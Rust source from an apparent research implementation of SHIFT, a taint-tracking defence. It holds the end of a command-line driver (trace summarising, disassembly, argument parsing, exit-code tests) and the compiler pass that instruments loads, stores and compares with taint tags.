    }
    if diverged {
        eprintln!("replay diverged from the recorded run");
        ExitCode::ReplayDiverged
    } else {
        println!("replay     : bit-identical");
        ExitCode::Success
    }
}

fn cmd_disasm(mode: Mode) -> ExitCode {
    use shift_ir::ProgramBuilder;
    let mut pb = ProgramBuilder::new();
    let g = pb.global_zeroed("cell", 16);
    pb.func("main", 0, move |f| {
        let p = f.global_addr(g);
        let v = f.load8(p, 0);
        let b = f.andi(v, 0xff);
        f.store1(b, p, 8);
        f.ret(Some(b));
    });
    let program = pb.build().unwrap();
    let compiled = match shift_compiler::Compiler::new(mode).compile(&program) {
        Ok(c) => c,
        Err(e) => return compile_failed(&e),
    };
    let (start, end) = compiled.func_ranges["main"];
    println!("mode: {} — one ld8 + one st1, instrumented:", mode_name(mode));
    println!("{}", shift_isa::disasm_listing(&compiled.image.code[start..end], start));
    ExitCode::Success
}

/// Summarizes a Chrome `trace_event` JSON file written by
/// `shift serve --trace-out`: a per-connection span table, the longest
/// spans, and the recovery timeline (recoveries, violations, injections).
fn cmd_trace(path: &str) -> ExitCode {
    use shift_core::Json;
    use std::collections::BTreeMap;
    let text = match std::fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!("cannot read trace `{path}`: {e}");
            return ExitCode::Usage;
        }
    };
    let doc = match Json::parse(&text) {
        Ok(d) => d,
        Err(e) => {
            eprintln!("bad trace `{path}`: {e}");
            return ExitCode::Usage;
        }
    };
    let Some(Json::Arr(raw)) = doc.get("traceEvents") else {
        eprintln!("`{path}` has no traceEvents array — not a shift trace");
        return ExitCode::Usage;
    };
    // One decoded row per non-metadata event. `dur == 0` means an instant.
    struct Ev<'a> {
        name: &'a str,
        tid: u64,
        cycle: u64,
        dur: u64,
        args: &'a Json,
    }
    let events: Vec<Ev> = raw
        .iter()
        .filter(|e| e.get("ph").and_then(Json::as_str) != Some("M"))
        .filter_map(|e| {
            Some(Ev {
                name: e.get("name")?.as_str()?,
                tid: e.get("tid")?.as_u64()?,
                cycle: e.get("args")?.get("cycle")?.as_u64()?,
                dur: e.get("args")?.get("dur_cycles")?.as_u64()?,
                args: e.get("args")?,
            })
        })
        .collect();
    if events.len()
        != raw.iter().filter(|e| e.get("ph").and_then(Json::as_str) != Some("M")).count()
    {
        eprintln!("`{path}` has malformed trace events");
        return ExitCode::Usage;
    }

    #[derive(Default)]
    struct Row {
        events: usize,
        requests: usize,
        recoveries: usize,
        violations: usize,
        span_cycles: u64,
    }
    let mut rows: BTreeMap<u64, Row> = BTreeMap::new();
    for e in &events {
        let row = rows.entry(e.tid).or_default();
        row.events += 1;
        match e.name {
            "request" => row.requests += 1,
            "recovery" => row.recoveries += 1,
            "violation" => row.violations += 1,
            "connection" => row.span_cycles = row.span_cycles.max(e.dur),
            _ => {}
        }
    }
    println!("trace      : {path} ({} events)", events.len());
    println!(
        "{:>10} {:>8} {:>9} {:>11} {:>11} {:>14}",
        "connection", "events", "requests", "recoveries", "violations", "span cycles"
    );
    for (tid, r) in &rows {
        println!(
            "{:>10} {:>8} {:>9} {:>11} {:>11} {:>14}",
            tid, r.events, r.requests, r.recoveries, r.violations, r.span_cycles
        );
    }

    let mut spans: Vec<&Ev> = events.iter().filter(|e| e.dur > 0).collect();
    spans.sort_by(|a, b| b.dur.cmp(&a.dur).then(a.cycle.cmp(&b.cycle)).then(a.tid.cmp(&b.tid)));
    if !spans.is_empty() {
        println!("longest spans:");
        for e in spans.iter().take(5) {
            println!(
                "  {:>12} cycles  {} (connection {}, start {})",
                e.dur, e.name, e.tid, e.cycle
            );
        }
    }

    let mut incidents: Vec<&Ev> = events
        .iter()
        .filter(|e| matches!(e.name, "recovery" | "violation" | "injection"))
        .collect();
    incidents.sort_by_key(|e| (e.cycle, e.tid));
    if incidents.is_empty() {
        println!("recovery timeline: clean run, no incidents");
    } else {
        println!("recovery timeline:");
        for e in &incidents {
            let detail = match e.name {
                "violation" => format!(
                    "{} -> {}",
                    e.args.get("policy").and_then(Json::as_str).unwrap_or("?"),
                    e.args.get("action").and_then(Json::as_str).unwrap_or("?")
                ),
                "recovery" => format!(
                    "{} cycles thrown away",
                    e.args.get("recovered_cycles").and_then(Json::as_u64).unwrap_or(0)
                ),
                _ => e.args.get("what").and_then(Json::as_str).unwrap_or("?").to_string(),
            };
            println!("  cycle {:>12}  connection {:>2}  {:<10} {}", e.cycle, e.tid, e.name, detail);
        }
    }
    if let Some(Json::Arr(series)) = doc.get("timeseries") {
        if !series.is_empty() {
            println!("timeseries : {} samples", series.len());
        }
    }
    ExitCode::Success
}

const USAGE: &str = "usage:\n  \
     shift attacks [--mode M] [--trace-taint] [--metrics <path>]\n  \
     shift attack <program> [--mode M] [--benign] [--trace] [--trace-depth N]\n  \
     \x20                  [--trace-taint] [--metrics <path>] [--profile <path>]\n  \
     shift spec <bench|all> [--mode M] [--reference] [--safe]\n  \
     shift apache <size-kb> <requests> [--mode M]\n  \
     shift serve [--mode M] [--workers N] [--connections N] [--requests N]\n  \
     \x20           [--size-kb N] [--json <path>] [--seed N] [--inject] [--record <path>]\n  \
     \x20           [--trace-out <path>] [--prom-out <path>] [--sample-cycles N]\n  \
     \x20           [--arrivals poisson:R|bursty:R[:B]|diurnal:R[:A]] [--accept-cap N]\n  \
     \x20           [--max-resident N] [--quantum N] [--host-workers N]\n  \
     shift trace <file>\n  \
     shift replay <log> [--connection N] [--debug] [--shrink <path>]\n  \
     shift bench [--json] [--reference] [--workers N] [--seed N]\n  \
     shift disasm [--mode M]\n  \
     shift modes\n  \
     shift help";

fn usage() -> ExitCode {
    eprintln!("{USAGE}");
    ExitCode::Usage
}

/// `shift help`: the usage text plus the exit-code table, on stdout.
fn cmd_help() -> ExitCode {
    println!("{USAGE}");
    println!();
    print!("{}", ExitCode::table());
    ExitCode::Success
}

fn main() -> ProcessExit {
    run().into()
}

fn run() -> ExitCode {
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    if args.is_empty() {
        return usage();
    }
    let cmd = args.remove(0);
    let mode = match take_mode(&mut args) {
        Ok(m) => m,
        Err(e) => {
            eprintln!("{e}");
            return ExitCode::Usage;
        }
    };
    match cmd.as_str() {
        "modes" => {
            cmd_modes();
            ExitCode::Success
        }
        "attacks" => {
            let trace_taint = take_flag(&mut args, "--trace-taint");
            let metrics = match take_opt(&mut args, "--metrics") {
                Ok(m) => m,
                Err(e) => {
                    eprintln!("{e}");
                    return ExitCode::Usage;
                }
            };
            cmd_attacks(mode, trace_taint, metrics)
        }
        "attack" => {
            let benign = take_flag(&mut args, "--benign");
            let trace = take_flag(&mut args, "--trace");
            let parsed = (|| -> Result<AttackOpts, String> {
                let trace_depth = match take_opt(&mut args, "--trace-depth")? {
                    Some(n) => Some(n.parse().map_err(|_| format!("bad --trace-depth `{n}`"))?),
                    // `--trace` alone keeps the historical 16-deep ring.
                    None if trace => Some(16),
                    None => None,
                };
                Ok(AttackOpts {
                    benign,
                    trace_depth,
                    trace_taint: take_flag(&mut args, "--trace-taint"),
                    metrics: take_opt(&mut args, "--metrics")?,
                    profile: take_opt(&mut args, "--profile")?,
                })
            })();
            let opts = match parsed {
                Ok(o) => o,
                Err(e) => {
                    eprintln!("{e}");
                    return ExitCode::Usage;
                }
            };
            match args.first() {
                Some(name) => cmd_attack(name, mode, opts),
                None => usage(),
            }
        }
        "spec" => {
            let scale =
                if take_flag(&mut args, "--reference") { Scale::Reference } else { Scale::Test };
            let tainted = !take_flag(&mut args, "--safe");
            match args.first() {
                Some(name) => cmd_spec(name, mode, scale, tainted),
                None => usage(),
            }
        }
        "apache" => {
            let (Some(kb), Some(reqs)) = (args.first(), args.get(1)) else {
                return usage();
            };
            match (kb.parse(), reqs.parse()) {
                (Ok(kb), Ok(reqs)) => cmd_apache(kb, reqs, mode),
                _ => usage(),
            }
        }
        "serve" => {
            let parsed = (|| -> Result<ServeOpts, String> {
                let take_num = |args: &mut Vec<String>, flag: &str, default: usize| match take_opt(
                    args, flag,
                )? {
                    Some(n) => n.parse().map_err(|_| format!("bad {flag} `{n}`")),
                    None => Ok(default),
                };
                let arrivals = take_opt(&mut args, "--arrivals")?;
                // Closed-loop `--workers` is the modelled fleet width and
                // defaults to one instance per host core; open-loop workers
                // are the event scheduler's modelled cores and default to
                // the paper-scale width of 8.
                let default_workers = if arrivals.is_some() {
                    8
                } else {
                    std::thread::available_parallelism().map_or(1, |p| p.get())
                };
                Ok(ServeOpts {
                    workers: take_num(&mut args, "--workers", default_workers)?,
                    connections: take_num(&mut args, "--connections", 8)?,
                    requests: take_num(&mut args, "--requests", 4)?,
                    size_kb: take_opt(&mut args, "--size-kb")?
                        .map(|n| n.parse().map_err(|_| format!("bad --size-kb `{n}`")))
                        .transpose()?,
                    json: take_opt(&mut args, "--json")?,
                    seed: take_opt(&mut args, "--seed")?
                        .map(|n| n.parse().map_err(|_| format!("bad --seed `{n}`")))
                        .transpose()?,
                    inject: take_flag(&mut args, "--inject"),
                    record: take_opt(&mut args, "--record")?,
                    trace_out: take_opt(&mut args, "--trace-out")?,
                    prom_out: take_opt(&mut args, "--prom-out")?,
                    sample_cycles: take_opt(&mut args, "--sample-cycles")?
                        .map(|n| n.parse().map_err(|_| format!("bad --sample-cycles `{n}`")))
                        .transpose()?,
                    arrivals,
                    accept_cap: take_num(&mut args, "--accept-cap", 1024)?,
                    max_resident: take_num(&mut args, "--max-resident", 256)?,
                    quantum: match take_opt(&mut args, "--quantum")? {
                        Some(n) => n.parse().map_err(|_| format!("bad --quantum `{n}`"))?,
                        None => 100_000,
                    },
                    host_workers: take_opt(&mut args, "--host-workers")?
                        .map(|n| n.parse().map_err(|_| format!("bad --host-workers `{n}`")))
                        .transpose()?,
                })
            })();
            match parsed {
                Ok(opts) => cmd_serve(mode, opts),
                Err(e) => {
                    eprintln!("{e}");
                    ExitCode::Usage
                }
            }
        }
        "bench" => {
            let json = take_flag(&mut args, "--json");
            let scale =
                if take_flag(&mut args, "--reference") { Scale::Reference } else { Scale::Test };
            let workers = match take_opt(&mut args, "--workers") {
                Ok(Some(n)) => match n.parse() {
                    Ok(w) => w,
                    Err(_) => {
                        eprintln!("bad --workers `{n}`");
                        return ExitCode::Usage;
                    }
                },
                Ok(None) => 0,
                Err(e) => {
                    eprintln!("{e}");
                    return ExitCode::Usage;
                }
            };
            let seed = match take_opt(&mut args, "--seed") {
                Ok(Some(n)) => match n.parse() {
                    Ok(s) => s,
                    Err(_) => {
                        eprintln!("bad --seed `{n}`");
                        return ExitCode::Usage;
                    }
                },
                Ok(None) => shift_workloads::master_seed(),
                Err(e) => {
                    eprintln!("{e}");
                    return ExitCode::Usage;
                }
            };
            cmd_bench(json, scale, workers, seed)
        }
        "replay" => {
            let parsed = (|| -> Result<(bool, Option<String>, Option<usize>), String> {
                let debug = take_flag(&mut args, "--debug");
                let shrink = take_opt(&mut args, "--shrink")?;
                let connection = take_opt(&mut args, "--connection")?
                    .map(|n| n.parse().map_err(|_| format!("bad --connection `{n}`")))
                    .transpose()?;
                Ok((debug, shrink, connection))
            })();
            match parsed {
                Ok((debug, shrink, connection)) => match args.first() {
                    Some(path) => cmd_replay(path, connection, debug, shrink),
                    None => usage(),
                },
                Err(e) => {
                    eprintln!("{e}");
                    ExitCode::Usage
                }
            }
        }
        "trace" => match args.first() {
            Some(path) => cmd_trace(path),
            None => usage(),
        },
        "disasm" => cmd_disasm(mode),
        "help" | "--help" | "-h" => cmd_help(),
        _ => usage(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn all_documented_modes_parse() {
        for name in [
            "plain",
            "byte",
            "word",
            "byte-enhanced",
            "word-enhanced",
            "shadow-byte",
            "shadow-word",
        ] {
            assert!(parse_mode(name).is_some(), "{name}");
        }
        assert!(parse_mode("turbo").is_none());
    }

    #[test]
    fn take_mode_extracts_and_defaults() {
        let mut a = args(&["spec", "--mode", "word", "gzip"]);
        let mode = take_mode(&mut a).unwrap();
        assert_eq!(mode, Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
        assert_eq!(a, args(&["spec", "gzip"]));

        let mut b = args(&["attacks"]);
        let mode = take_mode(&mut b).unwrap();
        assert_eq!(mode, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));

        let mut c = args(&["spec", "--mode"]);
        assert!(take_mode(&mut c).is_err());

        let mut d = args(&["spec", "--mode", "bogus"]);
        assert!(take_mode(&mut d).is_err());
    }

    #[test]
    fn take_flag_removes_only_the_flag() {
        let mut a = args(&["attack", "tar", "--benign"]);
        assert!(take_flag(&mut a, "--benign"));
        assert!(!take_flag(&mut a, "--benign"));
        assert_eq!(a, args(&["attack", "tar"]));
    }

    #[test]
    fn exit_codes_are_distinct_per_outcome() {
        use shift_core::{Fault, Violation};
        let codes = [
            exit_code_for(&Exit::Halted(0)),
            exit_code_for(&Exit::Halted(4)),
            exit_code_for(&Exit::Violation(Violation {
                policy: "H3".into(),
                message: "test".into(),
                ip: 0,
                provenance: None,
            })),
            exit_code_for(&Exit::Fault(Fault::Unmapped { addr: 0, ip: 0 })),
            exit_code_for(&Exit::FuelExhausted),
            exit_code_for(&Exit::InsnLimit),
            ExitCode::ReplayDiverged,
            ExitCode::Shrunk,
        ];
        let mut uniq: Vec<String> = codes.iter().map(|c| format!("{c:?}")).collect();
        uniq.sort();
        uniq.dedup();
        assert_eq!(uniq.len(), codes.len(), "{codes:?}");
    }

    /// The replay-specific exit codes must not collide with the usage code
    /// or with any run-outcome code (guarded above), so scripts can key on
    /// them unambiguously.
    #[test]
    fn replay_exit_codes_are_reserved() {
        assert_eq!(ExitCode::ReplayDiverged.code(), 14);
        assert_eq!(ExitCode::Shrunk.code(), 15);
        assert_ne!(ExitCode::ReplayDiverged.code(), ExitCode::Usage.code());
        assert_ne!(ExitCode::Shrunk.code(), ExitCode::Usage.code());
    }

    /// `shift help` renders its exit-code table from [`ExitCode::ALL`]; this
    /// pins the documented numeric codes and checks that every code and its
    /// description actually appear in the rendered table, so the help text
    /// and the enum cannot drift apart.
    #[test]
    fn help_table_agrees_with_exit_code_enum() {
        let codes: Vec<u8> = ExitCode::ALL.iter().map(|c| c.code()).collect();
        assert_eq!(codes, vec![0, 1, 2, 3, 10, 11, 12, 13, 14, 15]);
        let mut uniq = codes.clone();
        uniq.dedup();
        assert_eq!(uniq, codes, "exit codes must be distinct and sorted");
        let table = ExitCode::table();
        for c in ExitCode::ALL {
            let row = format!("{:>4}  {}", c.code(), c.describe());
            assert!(table.contains(&row), "help table missing row {row:?}:\n{table}");
        }
    }

    #[test]
    fn mode_names_are_distinct() {
        let names: Vec<String> = [
            Mode::Uninstrumented,
            Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
            Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
            Mode::Shadow(Granularity::Word),
        ]
        .into_iter()
        .map(mode_name)
        .collect();
        let mut uniq = names.clone();
        uniq.sort();
        uniq.dedup();
        assert_eq!(uniq.len(), names.len(), "{names:?}");
    }
}
