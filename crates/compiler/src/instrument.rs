//! The SHIFT instrumentation pass (the paper's §3–§4, Figure 5).
//!
//! Runs on *allocated physical code* — the same pipeline point as the
//! paper's GCC pass between `pass_leaf_regs` and `pass_sched2` — and rewrites
//! three instruction classes:
//!
//! 1. **Loads**: compute the tag address (Figure 4 region fold), load the
//!    tag byte from the region-0 bitmap, test the relevant bit(s) into
//!    `p6/p7`, perform the original load, and conditionally taint the target
//!    register (baseline: `add dst = dst, r31` against a kept NaT-source
//!    register; enhanced: `tset`).
//! 2. **Stores**: test the source's NaT bit with `tnat`, read-modify-write
//!    the tag byte, and perform the data store — `st8.spill` for 8-byte
//!    stores (NaT-safe for free, as Figure 5 notes), or a *laundered* plain
//!    store for sub-word sizes (spill + plain reload clears the NaT bit on
//!    baseline hardware; `tclr`/`tset` under the set/clear enhancement).
//! 3. **Compares**: NaT operands clear both predicates on real Itanium, so
//!    each possibly-tainted operand is laundered before the compare and
//!    re-tainted after (`Provenance::Relax`); the `cmp.nat` enhancement
//!    removes all of this.
//!
//! A simple forward *clean-register* analysis (within straight-line
//! segments) skips relaxation and laundering when operands are provably
//! untainted — the paper's "SHIFT analyzes the legitimate uses of tainted
//! data" (§4.1). Registers `r28–r31` and predicates `p6/p7` are reserved for
//! the pass.

use shift_isa::{AluOp, CmpRel, ExtKind, Gpr, MemSize, Op, Pr, Provenance};
use shift_machine::layout;
use shift_tagmap::{Granularity, REGION_STRIDE_BITS};

use crate::vcode::{CInsn, COp};

/// Scratch register 0: tag byte address.
const T0: Gpr = Gpr::R28;
/// Scratch register 1: offset / bit index / tag byte (reused).
const T1: Gpr = Gpr::R29;
/// Scratch register 2: masks and tag values.
const T2: Gpr = Gpr::R30;
/// The kept NaT-source register (baseline mode only, §4.1: generating a NaT
/// bit once and keeping it beats per-use generation by 3×).
pub const NAT_SRC: Gpr = Gpr::R31;

/// Instrumentation predicate: "tainted" (first operand).
const PT: Pr = Pr::P6;
/// Instrumentation predicate: complement / second operand.
const PF: Pr = Pr::P7;

/// How the baseline (no `tset`) configuration obtains its NaT-source
/// register. The paper found that generating it per function costs 3× more
/// than generating it once and keeping it (§4.4) — a deferred speculative
/// load walks the TLB, fails translation, and stalls for a full memory
/// latency before deferring.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum NatGen {
    /// Generate once at program entry, keep `r31` NaT'd forever (SHIFT's
    /// choice).
    #[default]
    Kept,
    /// Re-generate at every function entry (the §4.4 strawman).
    PerFunction,
    /// Re-generate at every site that needs the NaT source (worst case).
    PerUse,
}

/// Configuration of the SHIFT pass.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct ShiftOptions {
    /// Tag granularity (byte- or word-level, Figure 7's two families).
    pub granularity: Granularity,
    /// Architectural enhancement ①: `tset`/`tclr` instructions exist.
    pub set_clr: bool,
    /// Architectural enhancement ②: NaT-aware compares exist.
    pub nat_cmp: bool,
    /// Skip relaxation/laundering for provably-clean operands.
    pub relax_analysis: bool,
    /// NaT-source generation strategy (baseline mode only).
    pub nat_gen: NatGen,
}

impl ShiftOptions {
    /// Baseline SHIFT on stock Itanium at the given granularity.
    pub fn baseline(granularity: Granularity) -> ShiftOptions {
        ShiftOptions {
            granularity,
            set_clr: false,
            nat_cmp: false,
            relax_analysis: true,
            nat_gen: NatGen::Kept,
        }
    }

    /// Both proposed enhancements on (Figure 8's "both" bars).
    pub fn enhanced(granularity: Granularity) -> ShiftOptions {
        ShiftOptions { set_clr: true, nat_cmp: true, ..ShiftOptions::baseline(granularity) }
    }
}

/// Static counts of what the pass did (feeds Table 3 and sanity checks).
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct InstrumentStats {
    /// Loads instrumented.
    pub loads: usize,
    /// Stores instrumented.
    pub stores: usize,
    /// Compares relaxed (at least one operand laundered).
    pub cmps_relaxed: usize,
    /// Compares rewritten to the NaT-aware form.
    pub cmps_nat_aware: usize,
    /// Compares left untouched (clean operands or immediate forms).
    pub cmps_skipped: usize,
    /// Sub-word stores that needed source laundering.
    pub stores_laundered: usize,
    /// `Sanitize` markers expanded.
    pub sanitizes: usize,
}

/// Tracks which physical registers are provably untainted within a
/// straight-line segment. Conservative: joins reset everything.
#[derive(Clone, Copy, Debug)]
struct CleanSet(u32);

impl CleanSet {
    fn segment_start() -> CleanSet {
        let mut s = CleanSet(0);
        s.set(Gpr::R0, true);
        s.set(Gpr::SP, true);
        s
    }

    fn get(&self, r: Gpr) -> bool {
        self.0 & (1 << r.index()) != 0
    }

    fn set(&mut self, r: Gpr, clean: bool) {
        if clean {
            self.0 |= 1 << r.index();
        } else {
            self.0 &= !(1 << r.index());
        }
        // r0 is always clean; sp is never tainted by construction.
        self.0 |= (1 << Gpr::R0.index()) | (1 << Gpr::SP.index());
    }

    /// Transfer function over one (possibly glue) instruction.
    fn step(&mut self, insn: &CInsn<Gpr>) {
        match &insn.op {
            COp::Isa(op) => match *op {
                Op::MovI { dst, .. } | Op::MovFromBr { dst, .. } | Op::Tclr { dst } => {
                    // Predicated defs may not execute; only unpredicated
                    // definitions establish cleanliness.
                    self.set(dst, insn.qp == Pr::P0);
                }
                Op::Mov { dst, src } | Op::Ext { dst, src, .. } => {
                    let c = self.get(src) && insn.qp == Pr::P0;
                    self.set(dst, c);
                }
                Op::AluI { dst, src1, .. } => {
                    let c = self.get(src1) && insn.qp == Pr::P0;
                    self.set(dst, c);
                }
                Op::Alu { dst, src1, src2, op } => {
                    let self_cancel = src1 == src2 && matches!(op, AluOp::Xor | AluOp::Sub);
                    let c =
                        (self_cancel || (self.get(src1) && self.get(src2))) && insn.qp == Pr::P0;
                    self.set(dst, c);
                }
                Op::Ld { dst, .. } | Op::LdFill { dst, .. } => self.set(dst, false),
                Op::Tset { dst } => self.set(dst, false),
                Op::Syscall { .. } => self.set(Gpr::RET, false),
                _ => {}
            },
            COp::Call(_) => self.set(Gpr::RET, false),
            // Join points / control flow: forget everything.
            COp::Bind(_) | COp::Jmp(_) | COp::ChkS(..) => *self = CleanSet::segment_start(),
        }
    }
}

/// Runs the pass over one function's allocated code.
pub fn instrument(code: &[CInsn<Gpr>], opts: &ShiftOptions) -> (Vec<CInsn<Gpr>>, InstrumentStats) {
    let mut out = Vec::with_capacity(code.len() * 3);
    let mut stats = InstrumentStats::default();
    let mut clean = CleanSet::segment_start();

    if !opts.set_clr && opts.nat_gen == NatGen::PerFunction {
        emit_nat_gen(&mut out);
    }

    for insn in code {
        if insn.glue || insn.qp != Pr::P0 {
            // Glue (prologue/epilogue/spill traffic) and predicated
            // instructions pass through; spills are already NaT-transparent.
            clean.step(insn);
            out.push(insn.clone());
            continue;
        }
        match &insn.op {
            COp::Isa(Op::Ld { size, ext, dst, addr, spec: false })
                if insn.prov == Provenance::Original =>
            {
                stats.loads += 1;
                emit_load(&mut out, opts, *size, *ext, *dst, *addr, insn);
                clean.step(insn);
            }
            COp::Isa(Op::St { size, src, addr }) if insn.prov == Provenance::Original => {
                stats.stores += 1;
                let src_clean = opts.relax_analysis && clean.get(*src);
                let laundered = emit_store(&mut out, opts, *size, *src, *addr, src_clean, insn);
                if laundered {
                    stats.stores_laundered += 1;
                }
                clean.step(insn);
            }
            COp::Isa(Op::Cmp { rel, pt, pf, src1, src2, nat_aware: false })
                if insn.prov == Provenance::Original =>
            {
                let mut operands = vec![*src1];
                if src2 != src1 {
                    operands.push(*src2);
                }
                operands.retain(|r| !(opts.relax_analysis && clean.get(*r)));
                emit_cmp(
                    &mut out,
                    opts,
                    &mut stats,
                    Op::Cmp {
                        rel: *rel,
                        pt: *pt,
                        pf: *pf,
                        src1: *src1,
                        src2: *src2,
                        nat_aware: opts.nat_cmp,
                    },
                    &operands,
                    insn,
                );
                clean.step(insn);
            }
            COp::Isa(Op::CmpI { rel, pt, pf, src1, imm, nat_aware: false })
                if insn.prov == Provenance::Original =>
            {
                let mut operands = vec![*src1];
                operands.retain(|r| !(opts.relax_analysis && clean.get(*r)));
                emit_cmp(
                    &mut out,
                    opts,
                    &mut stats,
                    Op::CmpI {
                        rel: *rel,
                        pt: *pt,
                        pf: *pf,
                        src1: *src1,
                        imm: *imm,
                        nat_aware: opts.nat_cmp,
                    },
                    &operands,
                    insn,
                );
                clean.step(insn);
            }
            COp::Isa(Op::Tclr { dst }) if insn.prov == Provenance::Original => {
                // A `Sanitize` marker: bounds-checked value may be used as an
                // address. Baseline hardware has no tclr — launder instead.
                stats.sanitizes += 1;
                if opts.set_clr {
                    out.push(insn.clone());
                } else {
                    out.push(isa(Op::Tnat { pt: PT, pf: PF, src: *dst }, Provenance::Relax));
                    launder_baseline(&mut out, *dst, layout::LAUNDER0, PT);
                }
                clean.step(insn);
            }
            _ => {
                clean.step(insn);
                out.push(insn.clone());
            }
        }
    }
    (out, stats)
}

fn isa(op: Op<Gpr>, prov: Provenance) -> CInsn<Gpr> {
    CInsn::isa(op).with_prov(prov)
}

/// Emits the Figure-4 tag-address computation: `T0` ← tag byte address, and
/// (when `need_bit`) `T1` ← bit index within the tag byte (byte level only).
fn tag_addr(
    out: &mut Vec<CInsn<Gpr>>,
    gran: Granularity,
    addr: Gpr,
    need_bit: bool,
    prov: Provenance,
) {
    out.push(isa(Op::AluI { op: AluOp::Shr, dst: T0, src1: addr, imm: 61 }, prov));
    out.push(isa(Op::AluI { op: AluOp::Add, dst: T0, src1: T0, imm: -1 }, prov));
    out.push(isa(
        Op::AluI { op: AluOp::Shl, dst: T0, src1: T0, imm: REGION_STRIDE_BITS as i64 },
        prov,
    ));
    out.push(isa(Op::MovI { dst: T1, imm: shift_isa::IMPL_MASK as i64 }, prov));
    out.push(isa(Op::Alu { op: AluOp::And, dst: T1, src1: addr, src2: T1 }, prov));
    out.push(isa(
        Op::AluI { op: AluOp::Shr, dst: T2, src1: T1, imm: gran.byte_shift() as i64 },
        prov,
    ));
    out.push(isa(Op::Alu { op: AluOp::Or, dst: T0, src1: T0, src2: T2 }, prov));
    if need_bit {
        debug_assert!(gran.needs_bit_extraction());
        out.push(isa(Op::AluI { op: AluOp::And, dst: T1, src1: T1, imm: 7 }, prov));
    }
}

/// Whether an access of `size` touches a whole tag byte, needing no bit
/// extraction or read-modify-write: every word-level access (one tag byte
/// per word), and byte-level 8-byte accesses (8-aligned, so their 8 tag
/// bits are exactly one aligned tag byte — Figure 5's fast path).
fn whole_tag_byte(gran: Granularity, size: MemSize) -> bool {
    gran == Granularity::Word || size == MemSize::B8
}

fn emit_load(
    out: &mut Vec<CInsn<Gpr>>,
    opts: &ShiftOptions,
    size: MemSize,
    ext: ExtKind,
    dst: Gpr,
    addr: Gpr,
    orig: &CInsn<Gpr>,
) {
    let (tc, tm) = (Provenance::LdTagCompute, Provenance::LdTagMemory);
    let gran = opts.granularity;
    if whole_tag_byte(gran, size) {
        tag_addr(out, gran, addr, false, tc);
        out.push(isa(ld1(T2, T0), tm));
        out.push(isa(cmpi_ne(T2, 0), tc));
    } else {
        // Byte level, sub-word: extract the access's bits with a mask.
        tag_addr(out, gran, addr, true, tc);
        out.push(isa(Op::MovI { dst: T2, imm: (1i64 << size.bytes()) - 1 }, tc));
        out.push(isa(Op::Alu { op: AluOp::Shl, dst: T2, src1: T2, src2: T1 }, tc));
        out.push(isa(ld1(T1, T0), tm));
        out.push(isa(Op::Alu { op: AluOp::And, dst: T2, src1: T2, src2: T1 }, tc));
        out.push(isa(cmpi_ne(T2, 0), tc));
    }
    // The original load, unchanged.
    out.push(orig.clone());
    let _ = ext; // extension is carried by the original load
                 // Conditionally taint the destination.
    maybe_regen(out, opts);
    let taint = if opts.set_clr {
        Op::Tset { dst }
    } else {
        Op::Alu { op: AluOp::Add, dst, src1: dst, src2: NAT_SRC }
    };
    out.push(isa(taint, Provenance::TaintSource).under(PT));
}

/// Returns `true` if the store's source had to be laundered.
fn emit_store(
    out: &mut Vec<CInsn<Gpr>>,
    opts: &ShiftOptions,
    size: MemSize,
    src: Gpr,
    addr: Gpr,
    src_clean: bool,
    orig: &CInsn<Gpr>,
) -> bool {
    let (sc, sm) = (Provenance::StTagCompute, Provenance::StTagMemory);
    let gran = opts.granularity;

    if whole_tag_byte(gran, size) {
        // Whole tag byte: no read-modify-write needed. This covers every
        // word-level store (one tag byte per word — a sub-word store
        // overwrites the word's taint, the documented word-level
        // imprecision) and byte-level 8-byte stores.
        tag_addr(out, gran, addr, false, sc);
        if src_clean {
            out.push(isa(Op::MovI { dst: T2, imm: 0 }, sc));
            out.push(isa(st1(T2, T0), sm));
            out.push(orig.clone());
            return false;
        }
        out.push(isa(Op::Tnat { pt: PT, pf: PF, src }, sc));
        out.push(isa(Op::MovI { dst: T2, imm: 0xff }, sc).under(PT));
        out.push(isa(Op::MovI { dst: T2, imm: 0 }, sc).under(PF));
        out.push(isa(st1(T2, T0), sm));
        if size == MemSize::B8 {
            // st8.spill stores NaT'd data without faulting (Figure 5).
            out.push(CInsn::isa(Op::StSpill { src, addr }).with_prov(orig.prov));
            return false;
        }
        // Word-level sub-word store of possibly-NaT data: launder below.
    } else {
        // Byte level, sub-word: multi-bit read-modify-write.
        tag_addr(out, gran, addr, true, sc);
        let mask_base = (1i64 << size.bytes()) - 1;
        out.push(isa(Op::MovI { dst: T2, imm: mask_base }, sc));
        out.push(isa(Op::Alu { op: AluOp::Shl, dst: T2, src1: T2, src2: T1 }, sc));
        out.push(isa(ld1(T1, T0), sm));
        if src_clean {
            out.push(isa(Op::AluI { op: AluOp::Xor, dst: T2, src1: T2, imm: -1 }, sc));
            out.push(isa(Op::Alu { op: AluOp::And, dst: T1, src1: T1, src2: T2 }, sc));
            out.push(isa(st1(T1, T0), sm));
            out.push(orig.clone());
            return false;
        }
        out.push(isa(Op::Tnat { pt: PT, pf: PF, src }, sc));
        out.push(isa(Op::Alu { op: AluOp::Or, dst: T1, src1: T1, src2: T2 }, sc).under(PT));
        out.push(isa(Op::AluI { op: AluOp::Xor, dst: T2, src1: T2, imm: -1 }, sc).under(PF));
        out.push(isa(Op::Alu { op: AluOp::And, dst: T1, src1: T1, src2: T2 }, sc).under(PF));
        out.push(isa(st1(T1, T0), sm));
    }

    // Sub-word store of possibly-NaT data: launder the source around the
    // plain store, then re-taint it if it was tainted (p6 survives from the
    // tnat above).
    if opts.set_clr {
        out.push(isa(Op::Tclr { dst: src }, Provenance::Relax));
        out.push(orig.clone());
        out.push(isa(Op::Tset { dst: src }, Provenance::Relax).under(PT));
    } else {
        launder_baseline(out, src, layout::LAUNDER0, PT);
        out.push(orig.clone());
        maybe_regen(out, opts);
        out.push(isa(retaint(src), Provenance::Relax).under(PT));
    }
    true
}

fn emit_cmp(
